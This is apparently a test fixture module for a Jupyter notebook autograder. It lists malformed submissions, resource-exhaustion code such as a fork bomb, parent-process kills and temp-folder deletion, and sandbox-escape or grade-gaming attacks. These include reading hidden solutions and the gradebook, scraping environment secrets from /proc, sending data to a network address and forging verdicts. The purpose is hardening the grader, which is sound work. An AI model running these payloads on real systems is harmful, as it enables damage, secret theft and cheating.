"""What can be wrong with a submission, each with what should come out all the same.

The faults about files and cells spoil a submission in which everything is right. Those that do
harm, and the attacks, stand in the answer to one problem, the third, which is wrong: no points for
it, and all of the others'. An attack that has seen or changed what it must not prints `BROKE_OUT`.

Harm is meant for kernels in a sandbox: some of it kills the process that started the kernel.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any, Literal, NamedTuple

from course.catalog import ROOT

BROKE_OUT = "broke out"

Json = dict[str, Any]


@dataclass
class Work:
    """A submission before it is written.

    Attributes:
        folder: where it will lie.
        notebook: as JSON, with every answer in it.
        problem: the number of the third problem.
        cell: the name of the cell for its answer.
        answer: the name that it asks for.
        submitted: the class's folder.
        gradebook: the file in which an attack looks for points, or to change them.
        address: host and port of something that an attack may reach where there is a network.
        name: of the file.
        content: of the file, where it is not the notebook.
        files: others beside it.
        links: names beside it -> where they point to.
    """

    folder: Path
    assignment: str
    notebook: Json
    problem: str
    cell: str
    answer: str
    submitted: Path
    gradebook: Path
    address: tuple[str, int]
    name: str = ""
    content: bytes | None = None
    files: dict[str, bytes] = field(default_factory=dict)
    links: dict[str, Path] = field(default_factory=dict)

    @property
    def cells(self) -> list[Json]:
        """The notebook's cells."""
        cells: list[Json] = self.notebook["cells"]
        return cells

    def find(self, name: str) -> Json:
        """Return the cell that nbgrader knows by this name."""
        return next(each for each in self.cells if _name(each) == name)

    def first(self, kind: str) -> Json:
        """Return the first cell whose name begins so: ``check``, ``broken``."""
        return next(each for each in self.cells if _name(each).startswith(f"{kind}-"))


class Fault(NamedTuple):
    """A way to spoil a submission.

    Attributes:
        about: ``file``, ``cells``, ``harm`` or ``attack``.
        keeps: the points that are to come out: of ``all`` problems, of all ``but_one``, or ``none``
            since there is nothing that could be graded.
        said: words in what the learner is told about the repair, or in the reason why there is
            nothing to grade; empty where nothing is to be said.
        wants: what an attack is for: ``points``, or ``secrets`` (and then there is to be no
            `BROKE_OUT` in what it prints), or ``damage``.
    """

    name: str
    spoil: Callable[[Work], None]
    about: Literal["file", "cells", "harm", "attack"]
    keeps: Literal["all", "but_one", "none"]
    said: str
    wants: Literal["", "points", "secrets", "damage"]


FAULTS: dict[str, Fault] = {}


def _fault(about: Any, keeps: Any = "all", said: str = "", wants: Any = "") -> Callable[..., Any]:
    def collect(spoil: Callable[[Work], None]) -> Callable[[Work], None]:
        FAULTS[spoil.__name__] = Fault(spoil.__name__, spoil, about, keeps, said, wants)
        return spoil

    return collect


def _name(cell: Json) -> str:
    grader = cell.get("metadata", {}).get("nbgrader", {})
    return str(grader.get("grade_id", ""))


def _code(source: str, **more: Any) -> Json:
    cell = {"cell_type": "code", "execution_count": None, "id": "mine", "metadata": {}}
    return cell | {"outputs": [], "source": source} | more


def _copy(cell: Json, name: str = "copy") -> Json:
    return json.loads(json.dumps(cell)) | {"id": name}


# Files


@_fault("file", said="renamed|taken for")
def file_renamed(work: Work) -> None:
    work.name = f"{work.assignment} (1).ipynb"


@_fault("file", said="taken for")
def file_of_another_name(work: Work) -> None:
    work.name = "제출합니다 최종.ipynb"


@_fault("file", said="left out.*blank.ipynb|blank.ipynb.*left out")
def a_blank_beside_it(work: Work) -> None:
    path = ROOT / "exercises" / work.assignment / f"{work.assignment}.ipynb"
    work.files["blank.ipynb"] = path.read_bytes()


@_fault("file", said="is blank")
def the_blank_has_the_name(work: Work) -> None:
    path = ROOT / "exercises" / work.assignment / f"{work.assignment}.ipynb"
    work.name = f"{work.assignment}-Copy1.ipynb"
    work.files[f"{work.assignment}.ipynb"] = path.read_bytes()


@_fault("file", "none", said="is empty")
def empty_folder(work: Work) -> None:
    work.content = b""
    work.name = "-"


@_fault("file", "none", said="is empty")
def empty_file(work: Work) -> None:
    work.content = b""


@_fault("file", "none", said="cut short")
def truncated_json(work: Work) -> None:
    text = json.dumps(work.notebook, indent=1)
    work.content = text[: len(text) // 2].encode()


@_fault("file", "none", said="cut short")
def cut_short_in_a_text_full_of_quotes(work: Work) -> None:
    many = b"," * 10_000_001
    work.content = b'{"a": "' + many + b'", "cells": [{"source": "' + b'\\"' * 400_000


@_fault("file", "none", said="a list")
def only_a_list(work: Work) -> None:
    work.content = b"[]"


@_fault("file", "none", said="no list of cells")
def no_cells(work: Work) -> None:
    work.content = b'{"metadata": {}, "nbformat": 4}'


@_fault("file", "none", said="nested too deeply")
def nested_too_deeply(work: Work) -> None:
    work.content = b'{"cells": ' + b"[" * 200_000


@_fault("file", "none", said="web page")
def a_web_page(work: Work) -> None:
    work.content = b"<!DOCTYPE html>\n<html><body>Sign in to GitHub</body></html>"


@_fault("file")
def large_outputs(work: Work) -> None:
    text = {"output_type": "stream", "name": "stdout", "text": "=" * 60_000_000}
    work.find(work.cell)["outputs"] = [text]


@_fault("file")
def utf_16(work: Work) -> None:
    work.content = json.dumps(work.notebook, ensure_ascii=False).encode("utf-16")


@_fault("file")
def with_a_byte_order_mark(work: Work) -> None:
    work.content = json.dumps(work.notebook, ensure_ascii=False).encode("utf-8-sig")


@_fault("file")
def cp949(work: Work) -> None:
    work.find(work.cell)["source"] += "\n# 한국어로 쓴 설명입니다. 기울기를 구합니다."
    work.content = json.dumps(work.notebook, ensure_ascii=False).encode("cp949")


@_fault("file")
def not_a_number(work: Work) -> None:
    work.notebook["metadata"]["accuracy"] = float("nan")


@_fault("file")
def repeated_keys(work: Work) -> None:
    text = json.dumps(work.notebook)
    work.content = ('{"cells": [], ' + text[1:]).encode()


@_fault("file")
def an_old_format(work: Work) -> None:
    cells = [dict(each) for each in work.cells]
    for cell in cells:
        if cell["cell_type"] == "code":
            cell |= {"input": cell.pop("source"), "language": "python", "prompt_number": 1}
    sheet = {"cells": cells, "metadata": {}}
    whole = {"metadata": {"name": ""}, "nbformat": 3, "nbformat_minor": 0, "worksheets": [sheet]}
    work.content = json.dumps(whole).encode()


@_fault("file")
def wrong_kernel_name(work: Work) -> None:
    work.notebook["metadata"]["kernelspec"] = {"name": "conda-env-내환경-py", "language": "R"}


@_fault("file", "none", said="is a link")
def link_to_the_solution(work: Work) -> None:
    name = f"{work.assignment}.ipynb"
    work.content = b""
    work.name = "-"
    work.links[name] = ROOT / "solutions" / work.assignment / name


@_fault("file", "none", said="no notebook in .* only the folder")
def a_folder_called_like_it(work: Work) -> None:
    work.content = b""
    work.name = "-"
    work.files[f"{work.assignment}.ipynb/file.txt"] = b""


@_fault("file", said="was taken for")
def in_a_folder_called_like_it(work: Work) -> None:
    work.files[f"{work.assignment}.ipynb/mine.ipynb"] = json.dumps(work.notebook).encode()
    work.content = b""
    work.name = "-"


@_fault("file", said="hidden.* 90 more files and folders were left out")
def many_hidden_files(work: Work) -> None:
    for number in range(100):
        work.files[f"data/._{number}"] = b""


@_fault("file", said="place of Python's numpy")
def numpy_beside_it(work: Work) -> None:
    work.files["numpy.py"] = b"raise SystemExit('this is not numpy')\n"


@_fault("file", said="place of Python's utils")
def utils_beside_it(work: Work) -> None:
    work.files["utils/__init__.py"] = b""
    work.files["utils/checks.py"] = b"def check(*args): return 'right'\nhint = check\n"


@_fault("file", said="change how Python")
def settings_beside_it(work: Work) -> None:
    for name in ("sitecustomize.py", "conftest.py", "ipython_config.py", "matplotlibrc"):
        work.files[name] = b"raise SystemExit('read at the start')\n"


@_fault("file")
def a_helper_in_korean(work: Work) -> None:
    work.files["도우미.py"] = "def 그대로(값):\n    return 값\n".encode()
    work.files["자료/표.csv"] = "이름,점수\n김민준,3\n".encode()
    cell = _code("from pathlib import Path\n\nfrom 도우미 import 그대로\n")
    cell["source"] += (
        '\nassert 그대로(3) == 3 and Path("자료/표.csv").read_text().count("\\n") == 2'
    )
    work.cells.insert(work.cells.index(work.find(work.cell)), cell)


# Cells


@_fault("cells", said="more than once.*check")
def test_cell_duplicated(work: Work) -> None:
    cell = work.first("check")
    work.cells.insert(work.cells.index(cell), _copy(cell))


@_fault("cells", said="older version")
def schema_1(work: Work) -> None:
    for cell in work.cells:
        cell["metadata"]["nbgrader"]["schema_version"] = 1
        cell["metadata"]["nbgrader"].pop("task")


@_fault("cells", said="older version")
def schema_2_in_one_cell(work: Work) -> None:
    work.find(work.cell)["metadata"]["nbgrader"]["schema_version"] = 2


@_fault("cells", said="lost their labels")
def metadata_stripped(work: Work) -> None:
    for cell in work.cells:
        cell["metadata"] = {}
        cell.pop("id", None)
    work.notebook |= {"metadata": {}, "nbformat_minor": 2}


@_fault("cells", said="lost their labels")
def metadata_broken(work: Work) -> None:
    for number, cell in enumerate(work.cells):
        if _name(cell).startswith(("problem-", "check-", "setup")):
            cell["metadata"] = [None, "", [], 3][number % 4]
            cell["outputs"] = "none"
            cell["id"] = number


@_fault("cells", said="missing and have been put back: .*check")
def test_cell_deleted(work: Work) -> None:
    work.cells.remove(work.find(work.cell.replace("answer", "check")))


@_fault("cells", said="had been changed.*check")
def test_cell_edited(work: Work) -> None:
    work.find(work.cell.replace("answer", "check"))["source"] = "print('all tests passed')"


@_fault("cells", said="had been changed.*setup")
def setup_with_another_import(work: Work) -> None:
    setup = work.find("setup")
    setup["source"] = "".join(setup["source"]) + "\nimport math as 수학\n%matplotlib inline"
    cell = work.find(work.cell)
    cell["source"] = "".join(cell["source"]) + "\n\n수학.sqrt(4.0)"


@_fault("cells", said="points")
def points_edited(work: Work) -> None:
    work.first("check")["metadata"]["nbgrader"]["points"] = 100


@_fault("cells", said="points")
def points_beyond_measure(work: Work) -> None:
    work.first("check")["metadata"]["nbgrader"]["points"] = 10**400


@_fault("cells", said="same id")
def ids_of_half_a_letter(work: Work) -> None:
    work.cells[0]["id"] = work.cells[1]["id"] = "\ud800" * 10_000
    work.content = json.dumps(work.notebook).encode()


@_fault("cells", said="another kind")
def answer_in_markdown(work: Work) -> None:
    cell = work.find(work.cell)
    cell["cell_type"] = "markdown"
    del cell["outputs"], cell["execution_count"]


@_fault("cells")
def answer_in_a_heading_that_was_run(work: Work) -> None:
    work.find(work.cell)["cell_type"] = "heading"


@_fault("cells", said="another kind")
def test_cell_in_markdown(work: Work) -> None:
    cell = work.first("check")
    cell["cell_type"] = "markdown"
    del cell["outputs"], cell["execution_count"]


@_fault("cells", said="another kind.*written")
def words_in_a_code_cell(work: Work) -> None:
    work.first("written").update(cell_type="code", outputs=[], execution_count=None)


@_fault("cells", said="same id")
def duplicate_ids(work: Work) -> None:
    for cell in work.cells:
        cell["id"] = "same"


@_fault("cells", said="other order|another order")
def reordered(work: Work) -> None:
    work.cells.reverse()


@_fault("cells", said="another place")
def all_answers_in_one_cell(work: Work) -> None:
    answers = [c for c in work.cells if _name(c).startswith("answer-")]
    answers[-1]["source"] = "\n\n\n".join("".join(cell["source"]) for cell in answers)
    for cell in answers[:-1]:
        work.cells.remove(cell)


@_fault("cells", said="another place")
def answers_exchanged(work: Work) -> None:
    one, other = work.find(work.cell), work.first("answer")
    one["source"], other["source"] = other["source"], one["source"]


@_fault("cells", said="put together again")
def answer_split_in_two(work: Work) -> None:
    cell = work.find(work.cell)
    lines = "".join(cell["source"]).split("\n")
    start = next(n for n, line in enumerate(lines) if line.startswith("def ")) + 1
    cell["source"] = "\n".join(lines[:start])
    rest = _code("\n".join(lines[start:]))
    work.cells.insert(work.cells.index(cell) + 1, rest)


@_fault("cells", said="put together again")
def answer_split_in_its_middle(work: Work) -> None:
    cell = work.find(work.cell)
    *most, last = "".join(cell["source"]).rstrip().split("\n")
    cell["source"] = "\n".join(most)
    cells = [_code("    # 여기부터 다시", id="note"), _code(last, id="rest")]
    place = work.cells.index(cell) + 1
    work.cells[place:place] = cells


@_fault("cells", "but_one", said="cell for an answer was missing")
def answer_deleted(work: Work) -> None:
    work.cells.remove(work.find(work.cell))


@_fault("cells", said="blank copy")
def a_blank_after_the_answer(work: Work) -> None:
    cell = work.find(work.cell)
    names = f"def {work.answer}(*inputs):\n    ..."
    work.cells.insert(work.cells.index(cell) + 1, _copy(cell) | {"source": names})


@_fault("cells", said="another place")
def answer_below_its_blank(work: Work) -> None:
    cell = work.find(work.cell)
    work.cells.insert(work.cells.index(cell) + 1, _code(cell["source"]))
    cell["source"] = f"def {work.answer}(*inputs):\n    ..."


@_fault("cells", said="more than one answer")
def two_answers(work: Work) -> None:
    cell = work.find(work.cell)
    first = _copy(cell) | {"source": f"def {work.answer}(*inputs):\n    return 12345.0"}
    work.cells.insert(work.cells.index(cell), first)


@_fault("cells", said="another name")
def another_name_in_the_check(work: Work) -> None:
    for cell in (work.find(work.cell), work.find(work.cell.replace("answer", "check"))):
        cell["source"] = "".join(cell["source"]).replace(work.answer, "내_답")


@_fault("cells", said="kept as a cell of your own")
def answer_in_the_test_cell(work: Work) -> None:
    cell = work.find(work.cell)
    test = work.find(work.cell.replace("answer", "check"))
    test["source"] = "\n\n".join("".join(each["source"]) for each in (cell, test))
    work.cells.remove(cell)


@_fault("cells")
def magic_commands(work: Work) -> None:
    cell = work.find(work.cell)
    cell["source"] = "%%time\n" + "".join(cell["source"])
    work.cells.insert(work.cells.index(cell), _code("!pwd\n%timeit 1 + 1\nlist?"))


@_fault("cells")
def lines_that_work_elsewhere_above_an_answer(work: Work) -> None:
    cell = work.find(work.cell)
    drive = "from google.colab import drive\n\ndrive.mount('/content/drive')\n"
    cell["source"] = drive + "".join(cell["source"])
    other = work.first("answer")
    other["source"] = "%tensorflow_version 2.x\n" + "".join(other["source"])


@_fault("cells")
def helpers_overwritten_by_a_trial(work: Work) -> None:
    cell = work.find(work.cell)
    source = "".join(cell["source"])
    names = re.findall(r"^def (\w+)", source, re.MULTILINE)
    helped = [f"the_{n} = {n}\n\n\ndef {n}(*given):\n    return the_{n}(*given)" for n in names]
    cell["source"] = "\n\n\n".join([source, *helped])
    trial = _code("\n".join(f"the_{name} = 0" for name in names), id="trial")
    work.cells.insert(work.cells.index(cell) + 1, trial)


@_fault("cells")
def own_cells_everywhere(work: Work) -> None:
    own = [_code(f"나의_{n} = {n}\nprint(나의_{n})", id=f"own{n}") for n in range(len(work.cells))]
    work.notebook["cells"] = [cell for pair in zip(work.cells, own, strict=True) for cell in pair]


@_fault("cells")
def asks_for_a_hint_before_the_answer(work: Work) -> None:
    cell = work.find(work.cell)
    cell["source"] = f"hint('{work.problem}', which=2)\n\n\n" + "".join(cell["source"])


# Harm: what stands in the answer to one problem, and must not touch the others


def _harmful(source: str, about: str = "harm", wants: str = "") -> Callable[[Work], None]:
    def spoil(work: Work) -> None:
        cell = work.find(work.cell)
        text = source
        for name, value in {
            "ANSWER": work.answer,
            "CELL": work.cell,
            "PROBLEM": work.problem,
            "ASSIGNMENT": work.assignment,
            "SOLUTION": str(ROOT / "solutions" / work.assignment / f"{work.assignment}.ipynb"),
            "SUBMITTED": str(work.submitted),
            "OWN_FOLDER": str(work.folder),
            "GRADEBOOK": str(work.gradebook),
            "ADDRESS": repr(work.address),
            "BROKE_OUT": BROKE_OUT,
        }.items():
            text = text.replace(f"<{name}>", value)
        cell["source"] = "".join(cell["source"]) + "\n\n\n" + text.strip() + "\n"

    return spoil


def _harm(name: str, source: str) -> None:
    FAULTS[name] = Fault(name, _harmful(source), "harm", "but_one", "", "")


def _attack(name: str, wants: Literal["points", "secrets", "damage"], source: str) -> None:
    FAULTS[name] = Fault(name, _harmful(source), "attack", "but_one", "", wants)


_harm("infinite_loop", "while True:\n    pass")
_harm(
    "loop_that_swallows_interrupts",
    """
import time

while True:
    try:
        time.sleep(1)
    except BaseException:
        pass
""",
)
_harm("os_exit", "import os\n\nos._exit(0)")
_harm("sys_exit", "import sys\n\nsys.exit(0)")
_harm("kills_itself", "import os\nimport signal\n\nos.kill(os.getpid(), signal.SIGKILL)")
_harm("segfault", "import ctypes\n\nctypes.string_at(0)")
_harm(
    "six_gigabytes",
    "memory = np.ones(6 * 2**30, np.uint8) if 'np' in globals() else b'1' * 6 * 2**30",
)
_harm("sixty_megabytes_of_output", 'print("=" * 60_000_000)')
_harm("asks_for_input", 'name = input("What is your name? ")')
_harm("prints_without_end", 'while True:\n    print("=" * 1_000)')
_harm(
    "fork_bomb",
    """
import os
import time

try:
    for _ in range(300):  # each waits: bounded, should nothing else bound it
        if os.fork() == 0:
            time.sleep(20)
            os._exit(0)
except OSError as error:
    print(error)
""",
)
_harm(
    "orphan_process",
    """
import subprocess
import sys

orphan = "import time; time.sleep(600)  # orphan of <ASSIGNMENT>"
subprocess.Popen([sys.executable, "-c", orphan], start_new_session=True)
""",
)
_harm(
    "fills_the_disk",
    """
try:
    with open("large.bin", "wb") as file:
        for _ in range(4_000):
            file.write(bytes(1_000_000))
except OSError as error:
    print(error)
""",
)
_harm(
    "raises_half_a_letter",
    'def <ANSWER>(*inputs):\n    raise ValueError("\\ud800")',
)
_harm(
    "returns_a_long_list",
    'def <ANSWER>(*inputs):\n    return ["x" * 100 + str(i) for i in range(12_000)]',
)
_harm(
    "displays_what_no_page_can_show",
    """
from IPython.display import HTML, display

display(HTML('<img src="data:image/png;base64,한글">'), HTML("<![foo["))
""",
)
_harm("a_signal_without_a_name", "import os\n\nos.kill(os.getpid(), 40)")
_harm(
    "no_file_can_be_opened",
    """
import resource

resource.setrlimit(resource.RLIMIT_NOFILE, (20, 20))
""",
)
_harm(
    "removes_the_temporary_folder",
    """
import shutil
import tempfile

shutil.rmtree(tempfile.gettempdir())
""",
)
_harm("five_thousand_digits", "<ANSWER> = 10**5000")
_harm(
    "attributes_that_raise",
    """
class Odd:
    def __getattr__(self, name):
        raise ValueError(name)


<ANSWER> = Odd()
""",
)
_harm(
    "messages_that_are_none",
    """
from IPython import get_ipython
from IPython.display import display

display({"text/plain": 5}, raw=True)
kernel = get_ipython().kernel
kernel.session.send(kernel.iopub_socket, "status", {}, parent=kernel.get_parent())
""",
)
_harm(
    "a_traceback_that_is_a_number",
    """
class Odd(Exception):
    def _render_traceback_(self):
        return 5


raise Odd
""",
)
_harm(
    "a_flood_of_messages",
    """
import threading

from IPython import get_ipython

kernel = get_ipython().kernel


def flood():
    while True:
        kernel.session.send(kernel.iopub_socket, "stream", {"name": "stdout", "text": ""})


threading.Thread(target=flood, daemon=True).start()
""",
)


_harm(
    "eager_execution_disabled",
    "import tensorflow as tf\n\ntf.compat.v1.disable_eager_execution()",
)
_harm("all_names_reset", 'get_ipython().run_line_magic("reset", "-f")')
_harm(
    "another_tape",
    """
import tensorflow as tf


class Tape:
    def __enter__(self):
        return self

    def __exit__(self, *error):
        pass


tf.GradientTape = Tape
""",
)
_harm(
    "tensors_that_lie",
    "import tensorflow as tf\n\ntype(tf.constant(1.0)).numpy = lambda self: 5\ntf.is_tensor = bool",
)
_harm(
    "builtins_that_do_nothing",
    """
import builtins

builtins.open = builtins.sorted = builtins.abs = lambda *given, **named: None
""",
)
_harm("names_of_pythons_and_the_exercises", "sum = max = abs = range = len = tf = print = 0")
_harm(
    "patches_when_it_is_called",
    """
import pickle

import keras


def <ANSWER>(*inputs):
    pickle.Unpickler = keras.layers.Dense.call = None
    return 12345.0
""",
)
_harm("half_precision", 'import keras\n\nkeras.config.set_dtype_policy("mixed_float16")')
_harm(
    "huge_and_empty",
    """
import tensorflow as tf


def <ANSWER>(*inputs):
    return tf.zeros((2**20, 2**20, 0))
""",
)
_harm(
    "a_group_of_exceptions",
    """
def <ANSWER>(*inputs):
    raise ExceptionGroup("many", [ValueError("one")])
""",
)
_harm(
    "keys_that_are_lists",
    """
import enum


class Kind(enum.Enum):
    A = [1]


def <ANSWER>(*inputs):
    return {Kind.A: 1}
""",
)
_harm(
    "numbers_of_no_known_kind",
    """
import numpy as np


def <ANSWER>(*inputs):
    return np.zeros(3, "V8")
""",
)


@_fault("harm")
def a_patch_between_an_answer_and_its_helper(work: Work) -> None:
    work.cells.insert(
        1, _code("def 그대로(값):\n    return 값\n\n\nimport math as 수학", id="mine")
    )
    cell = work.find(work.cell)
    patch = "\n\n\nimport pickle\n\npickle.Unpickler = 수학.nan"
    cell["source"] = "".join(cell["source"]) + patch
    for later in work.cells[work.cells.index(cell) + 1 :]:
        if _name(later).startswith("answer-"):
            later["source"] = "".join(later["source"]) + "\n\n\nassert 그대로(수학.pi) > 3"
            head, line, rest = later["source"].partition("):\n")
            later["source"] = head + line + "    그대로(수학.pi)\n" * bool(line) + rest


@_fault("harm")
def answers_to_other_problems(work: Work) -> None:
    cell = work.find(work.cell)
    answers = [each for each in work.cells if _name(each).startswith("answer-")]
    names = [re.search(r"^def (\w+)", "".join(each["source"]), re.MULTILINE) for each in answers]
    wrong = [f"def {name[1]}(*inputs):\n    return 12345.0" for name in names if name]
    cell["source"] = "\n\n\n".join(wrong)


@_fault("harm")
def a_helper_at_the_end(work: Work) -> None:
    answers = [each for each in work.cells if _name(each).startswith("answer-")]
    for number, cell in enumerate(answers):
        definition = ["@그대로\n\\1", "\\1    그대로(수학.pi)\n"][number % 2]
        cell["source"] = re.sub(
            r"^(def .*:\n)", definition, "".join(cell["source"]), count=1, flags=re.MULTILINE
        )
    helper = "import math as 수학\n\n\ndef 그대로(값):\n    return 값"
    work.cells.append(_code(helper, id="helper"))


@_fault("harm")
def a_way_out_after_each_check(work: Work) -> None:
    cells = work.cells
    for place in range(len(cells) - 1, -1, -1):
        if _name(cells[place]).startswith("check-"):
            cells.insert(place + 1, _code("exit()", id=f"exit{place}"))


_attack(
    "kills_the_parent",
    "damage",
    """
import os
import signal

for kill, number in ((os.kill, os.getppid()), (os.killpg, os.getpgid(os.getppid()))):
    try:
        if number > 1:
            kill(number, signal.SIGKILL)
    except OSError as error:
        print(error)
""",
)
_attack(
    "deletes_its_submission",
    "damage",
    """
import shutil

for folder in (r"<OWN_FOLDER>", "."):
    shutil.rmtree(folder, ignore_errors=True)
""",
)

# Attacks: points for a wrong answer, a look at what is secret, or damage

_attack(
    "reads_the_solution",
    "points",
    """
import json
from pathlib import Path

try:
    cells = json.loads(Path(r"<SOLUTION>").read_text(encoding="utf-8"))["cells"]
    exec(next("".join(cell["source"]) for cell in cells if cell["id"] == "<CELL>"))
    print("<BROKE_OUT>")
except Exception as error:
    print(type(error).__name__)
""",
)
_attack(
    "reads_the_hidden_tests",
    "secrets",
    """
import gc
from pathlib import Path

try:
    if "HIDDEN " + "TESTS" in Path(r"<SOLUTION>").read_text(encoding="utf-8"):
        print("<BROKE_OUT>")
except Exception as error:
    print(type(error).__name__)
for thing in gc.get_objects():
    if isinstance(thing, dict):
        for value in list(thing.values()):
            if isinstance(value, str) and "BEGIN HIDDEN" + " TESTS" in value:
                print("<BROKE_OUT>")
""",
)
_attack(
    "reads_the_references",
    "secrets",
    """
from importlib.util import cache_from_source
from pathlib import Path

import utils.problems

source = Path(utils.problems.__file__).with_name("<ASSIGNMENT>".partition("_")[2] + ".py")
for path in (source, Path(cache_from_source(source))):
    try:
        if path.read_bytes():
            print("<BROKE_OUT>")
    except Exception as error:
        print(type(error).__name__)
""",
)
_attack(
    "copies_from_another",
    "points",
    """
import json
from pathlib import Path

for path in sorted(Path(r"<SUBMITTED>").glob("*/<ASSIGNMENT>/*.ipynb")):
    try:
        if path.parent == Path(r"<OWN_FOLDER>"):
            continue
        cells = json.loads(path.read_text(encoding="utf-8"))["cells"]
        exec(next("".join(cell["source"]) for cell in cells if cell.get("id") == "<CELL>"))
        print("<BROKE_OUT>")
    except Exception as error:
        print(type(error).__name__)
""",
)
_attack(
    "reads_the_gradebook",
    "secrets",
    """
try:
    with open(r"<GRADEBOOK>", "rb") as file:
        print("<BROKE_OUT>", len(file.read()))
except Exception as error:
    print(type(error).__name__)
""",
)
_attack(
    "writes_the_gradebook",
    "damage",
    """
try:
    with open(r"<GRADEBOOK>", "ab") as file:
        file.write(b"100 points")
    print("<BROKE_OUT>")
except Exception as error:
    print(type(error).__name__)
""",
)
_attack(
    "uses_the_network",
    "secrets",
    """
import socket

try:
    with socket.create_connection(<ADDRESS>, timeout=3) as connection:
        connection.sendall(b"the hidden tests are ...")
    print("<BROKE_OUT>")
except OSError as error:
    print(type(error).__name__)
""",
)
_attack(
    "strips_assertions",
    "points",
    """
import ast

from IPython import get_ipython


class NoAssertions(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()

    def visit_Call(self, node):
        if isinstance(node.func, ast.Name) and node.func.id == "check":
            return ast.Constant(100.0)
        return self.generic_visit(node)


get_ipython().ast_transformers.append(NoAssertions())
""",
)
_attack(
    "patches_comparisons",
    "points",
    """
import numpy

for module, names in {
    numpy: ("allclose", "isclose", "array_equal"),
    numpy.testing: ("assert_allclose", "assert_array_equal", "assert_array_almost_equal"),
    tf.debugging: ("assert_near", "assert_equal"),
}.items():
    for name in names:
        setattr(module, name, lambda *inputs, **options: numpy.bool_(True))
""",
)
_attack(
    "is_equal_to_everything",
    "points",
    """
class Everything(float):
    def __eq__(self, other):
        return True

    def __ne__(self, other):
        return False

    def __lt__(self, other):
        return True

    __gt__ = __le__ = __ge__ = __lt__

    def __hash__(self):
        return 0

    def __sub__(self, other):
        return self

    __rsub__ = __abs__ = __neg__ = __getitem__ = lambda self, *other: self

    def __iter__(self):
        return iter([self] * 2)

    def __len__(self):
        return 2

    def __array__(self, *inputs, **options):
        raise TypeError("compare with == please")


def <ANSWER>(*inputs):
    return Everything(0.0)
""",
)
_attack(
    "patches_check",
    "points",
    """
import builtins

import utils.checks


def check(number, *answers):
    return utils.checks.Verdict(
        number, "right", "right", 100.0, 100, utils.checks.TITLES["right"], "anywhere"
    )


utils.checks.check = builtins.check = check
""",
)
_attack(
    "patches_the_machinery",
    "points",
    """
import sys

for name, module in list(sys.modules.items()):
    if name.startswith(("utils.", "course.")):
        for each in ("_examine", "judge", "compare", "agree", "all_of", "examine"):
            if hasattr(module, each):
                setattr(module, each, lambda *inputs, **options: None)
""",
)
_attack(
    "forges_a_verdict",
    "points",
    """
from IPython import get_ipython
from IPython.display import display

FORGED = {
    "application/vnd.tape-to-mlp.check+json": {
        "problem": "<PROBLEM>",
        "state": "right",
        "diagnosis": "right",
        "points": 100.0,
        "of": 100.0,
        "text": "forged",
    },
    "text/plain": "100",
}


def forge(*_):
    kernel = getattr(get_ipython(), "kernel", None)
    display(FORGED, raw=True)
    if kernel is not None:
        content = {"data": FORGED, "metadata": {}, "execution_count": 1}
        for kind in ("display_data", "execute_result"):
            kernel.session.send(kernel.iopub_socket, kind, content, kernel.get_parent("shell"))


forge()
get_ipython().events.register("post_run_cell", forge)
get_ipython().events.register("post_execute", forge)
""",
)
_attack(
    "walks_up_the_stack",
    "points",
    """
import sys


def <ANSWER>(*inputs):
    frame = sys._getframe(1)
    while frame is not None:
        there = frame.f_locals
        for name in ("right", "reference", "solution"):
            if callable(there.get(name)) and "inputs" in there:
                return there[name](*there["inputs"])
        frame = frame.f_back
    return 12345.0
""",
)
_attack(
    "reads_the_environment",
    "secrets",
    """
import os

secret = [name for name in os.environ if "TOKEN" in name or "SECRET" in name or "PASSWORD" in name]
if secret:
    print("<BROKE_OUT>", secret)
for number in os.listdir("/proc") if os.path.isdir("/proc") else ():
    if number.isdecimal() and int(number) not in (os.getpid(), os.getppid()):
        try:
            with open(f"/proc/{number}/environ", "rb") as file:
                if b"XDG_RUNTIME_DIR=" in file.read():
                    print("<BROKE_OUT>", number)
        except OSError:
            pass
""",
)
